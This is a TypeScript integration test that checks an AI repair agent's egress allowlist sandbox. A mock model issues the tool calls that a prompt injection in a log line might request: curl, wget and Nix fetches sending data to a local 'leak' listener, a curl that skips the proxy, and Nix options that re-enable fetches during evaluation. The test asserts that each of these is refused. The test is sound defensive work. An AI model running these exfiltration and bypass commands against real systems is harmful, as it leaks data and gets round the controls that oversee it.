import { spawnSync } from "node:child_process";
import { existsSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { delimiter, join } from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { DEFAULT_ALLOWED_COMMANDS } from "../../src/config/schema.js";
import { close, type Listener, listen } from "../support/listener.js";
import { type MockLlm, type MockTurn, startMockLlm } from "../support/mock-llm.js";
import {
  JELLYFIN_ALERT as JELLYFIN,
  jellyfinRepairTurns,
  OPENCODE,
  realOpencodeAgent,
} from "../support/real-opencode.js";
import { type Healer, startHealer } from "../support/serve.js";

const HAS_BWRAP = ["/usr/bin/bwrap", "/bin/bwrap"].some((p) => existsSync(p));
const has = (cmd: string) => spawnSync(cmd, ["--version"], { stdio: "ignore" }).status === 0;
const HAS_CURL_WGET = has("curl") && has("wget");
// `.ci/run` puts the Debian-built Nix here when it installs it; the service's PATH is the agent's.
const NIX_DIR = "/var/cache/nix-trixie/bin";
if (!has("nix") && existsSync(join(NIX_DIR, "nix")))
  process.env.PATH = `${NIX_DIR}${delimiter}${process.env.PATH}`;
const HAS_NIX = has("nix");
if (!HAS_NIX) console.log("opencode-egress: no nix on PATH, the builtins.fetchurl turn is left out");

const bash = (command: string): MockTurn => ({
  tools: [{ name: "bash", args: { command, description: "x" } }],
});

describe.runIf(OPENCODE !== undefined && HAS_BWRAP && HAS_CURL_WGET)(
  "the real OpenCode behind the egress allowlist: the model through the proxy, nothing else out",
  () => {
    let h: Healer;
    let mock: MockLlm;
    let leak: Listener;
    let second: Listener;
    const stateDir = mkdtempSync(join(tmpdir(), "healer-egress-"));
    const worktree = join(stateDir, "worktrees", "incident-1");
    const nix = join(worktree, "hosts/media-01/default.nix");
    const prBody = join(stateDir, "runs", "1", "pr-body.md");
    const envFile = join(stateDir, "..", `${stateDir.split("/").pop()}-agent.env`);

    beforeAll(async () => {
      leak = await listen("leaked");
      second = await listen("second listener ok");
      const url = `http://127.0.0.1:${leak.port}`;
      mock = await startMockLlm([
        // What a prompt injection in a log line would ask for, through commands the lane allows.
        ...(HAS_NIX
          ? [
              bash(`nix eval --impure --expr 'builtins.fetchurl "${url}/leak"'`),
              // The daemon's way out on NixOS (egress/nix.ts): a fetch built during evaluation…
              bash(
                `nix eval --impure --expr 'builtins.readFile (import <nix/fetchurl.nix> { url = "${url}/ifd"; sha256 = "${"0".repeat(52)}"; })'`,
              ),
              // …and the command lines that would allow it again.
              bash("nix eval --option allow-import-from-derivation true --expr 1"),
              bash("env NIX_CONFIG='allow-import-from-derivation = true' nix eval --expr 1"),
              bash("NIX_CONFIG='allow-import-from-derivation = true' nix eval --expr 1"),
            ]
          : []),
        bash(`curl -sS -m 20 ${url}/leak?d=curl`),
        bash(`wget -O- -T 20 -t 1 ${url}/leak?d=wget`),
        // Past the proxy, straight to the host's loopback: another namespace's, so nothing listens.
        bash(`curl -sS -m 5 --noproxy '*' ${url}/direct`),
        bash(`curl -sS -m 20 http://127.0.0.1:${second.port}/ok`),
        ...jellyfinRepairTurns(
          nix,
          prBody,
          "# jellyfin: join the media group\n\n## What broke\nPermission denied.\n\n## Root cause\nNo media group.\n\n## Fix\nSupplementaryGroups.\n\n## How it was checked\nRead the unit.\n\n## Risk and rollback\nRevert.\n",
        ),
      ]);
      // This machine's single-user Nix keeps its store where the sandbox is read-only; a store of the
      // run's own in the sandbox's private /tmp lets the evaluator get as far as the download (and to
      // a derivation to build), which is what this test is about. Its wrapper
      // (install-nix.sh) also puts its cache and state under its own prefix, read-only in the sandbox
      // too and absent until a first download made them ("creating directory …: Read-only file
      // system" in a run where no Nix check came first): the sandbox's private /tmp holds them, as the
      // agent's home does a NixOS Nix's.
      writeFileSync(
        envFile,
        [
          "NIX_CONFIG=store = /tmp/nix-root",
          ...["CACHE", "STATE", "DATA", "CONFIG"].map((d) => `NIX_${d}_HOME=/tmp/nix-${d.toLowerCase()}`),
          "",
        ].join("\n"),
      );
      h = await startHealer({
        stateDir,
        config: (b) => ({
          ...b,
          agent: {
            ...realOpencodeAgent(mock.baseUrl),
            allowedCommands: [...DEFAULT_ALLOWED_COMMANDS, "curl *", "wget *"],
            allowedHosts: [`127.0.0.1:${second.port}`],
            environmentFile: envFile,
          },
        }),
      });
    }, 60_000);
    afterAll(async () => {
      await h?.stop();
      await mock?.close();
      await close(leak);
      await close(second);
      rmSync(stateDir, { recursive: true, force: true });
      rmSync(envFile, { force: true });
    });

    it("opens the PR; the leak listener gets no connection and egress_refused names it; allowedHosts lets the second through", {
      timeout: 240_000,
    }, async () => {
      expect((await h.post("openobserve", JELLYFIN)).status).toBe(202);
      type Detail = {
        incident: { state: string };
        runs: { outcome: string }[];
        events: { kind: string; run_id: number | null; data: Record<string, unknown> }[];
      };
      const detail = await h.waitFor(
        "the PR",
        async () => {
          const d = (await h.api<Detail>("/incidents/1")).body;
          return d.incident.state === "pr_open" || d.incident.state === "needs_human" ? d : undefined;
        },
        200_000,
      );
      // The model was reached (through the proxy: the sandbox has no other way to the host's loopback).
      expect(detail.incident.state).toBe("pr_open");
      expect(detail.runs[0]!.outcome).toBe("pr_opened");
      expect(h.github.prs).toHaveLength(1);

      expect(leak.connections).toBe(0);
      expect(second.connections).toBeGreaterThanOrEqual(1);
      const refusals = detail.events.filter((e) => e.kind === "egress_refused");
      expect(refusals).toHaveLength(1);
      expect(refusals[0]!.run_id).not.toBeNull();
      // What each command told the model (the last tool result of the next request): refused by the
      // proxy, refused by the namespace, let through.
      const toolResult = (turn: number) => {
        const messages = (mock.requests[turn + 1]?.body.messages ?? []) as {
          role: string;
          content: unknown;
        }[];
        return String(messages.filter((m) => m.role === "tool").at(-1)?.content ?? "");
      };
      const t = HAS_NIX ? 5 : 0;
      if (HAS_NIX) {
        expect(toolResult(0)).toMatch(/unable to download.*HTTP error 403/);
        // Behind the allowlist Nix may not build while it evaluates: no fetch from the daemon's network.
        expect(toolResult(1)).toMatch(
          /during evaluation because the option 'allow-import-from-derivation' is disabled/,
        );
        // OpenCode's answer to a denied command; 1.18.33 refuses the two NIX_CONFIG forms already
        // for not matching `nix eval *`, and the lane's `*NIX_CONFIG*` rule keeps it so.
        for (const turn of [2, 3, 4])
          expect(toolResult(turn)).toMatch(/rule which prevents you from using this specific tool call/);
        expect(toolResult(2)).toContain('"pattern":"*--option *","action":"deny"');
      }
      expect(toolResult(t)).toContain(`127.0.0.1:${leak.port} is not in this run's egress allowlist`);
      expect(toolResult(t + 1)).toMatch(/ERROR 403/);
      expect(toolResult(t + 2)).toMatch(/Failed to connect|Couldn't connect/);
      expect(toolResult(t + 3)).toBe("second listener ok");

      // curl and wget each once, nix at least once (it may retry); the direct curl never reached the proxy.
      expect(refusals[0]!.data).toMatchObject({ destination: `127.0.0.1:${leak.port}` });
      expect(refusals[0]!.data.count).toBeGreaterThanOrEqual(HAS_NIX ? 3 : 2);

      const log = readFileSync(join(stateDir, "runs", "1", "agent.log"), "utf8");
      expect(log).toContain("egress: own network namespace; allowed 127.0.0.1:");
      expect(log).toContain(`egress refused: 127.0.0.1:${leak.port} is not in the allowlist`);
    });
  },
);
